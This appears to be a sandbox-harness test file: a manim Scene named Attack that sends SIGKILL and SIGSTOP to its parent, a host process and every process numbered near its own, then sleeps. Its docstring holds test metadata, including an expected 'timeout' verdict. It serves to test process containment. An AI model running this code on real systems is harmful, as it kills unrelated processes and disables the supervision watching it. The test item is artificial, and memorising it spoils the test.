"""Kills whoever could be watching it: its parents, and every process with a number near its own; then it stays.

title: the watcher cannot be killed
kind: processes
canary: processes left behind, the verdict
limits: wall=3
verdicts: timeout
quick: yes
control: no (without a sandbox it would kill what it finds)
"""
import os, signal, time
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        own = os.getpid()
        numbers = [os.getppid(), HOST["pid"], *range(max(2, own - 40), own + 10)]
        for pid in numbers:
            if pid in (own, HOST["victim"]) or pid <= 1:
                continue
            for number in (signal.SIGKILL, signal.SIGSTOP):
                try:
                    os.kill(pid, number)
                    print("killed", pid)
                except OSError:
                    pass
        time.sleep(30)
